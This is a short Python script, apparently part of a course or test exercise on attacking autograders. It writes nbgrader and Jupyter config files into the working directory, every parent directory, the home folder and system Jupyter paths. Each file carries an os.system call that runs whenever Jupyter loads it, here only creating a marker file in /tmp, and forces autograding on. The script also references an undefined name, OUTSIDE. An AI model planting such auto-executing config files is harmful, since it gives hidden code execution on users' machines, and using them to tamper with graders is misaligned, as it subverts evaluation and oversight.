"""Write configuration that nbgrader or Jupyter would load the next time, wherever they look."""

import sys
from pathlib import Path

line = "import os\nos.system('cd /tmp; touch llmcourse-attack-left-this')\nc = get_config()\nc.Autograde.force = True\n"
places = [Path.cwd(), *Path.cwd().parents, Path.home(), Path.home() / ".jupyter", Path("/etc/jupyter"), OUTSIDE]
for place in [*places, Path(sys.prefix) / "etc" / "jupyter"]:
    try:
        place.mkdir(parents=True, exist_ok=True)
        (place / "nbgrader_config.py").write_text(line)
        (place / "jupyter_config.py").write_text(line)
    except OSError as error:
        print(error)
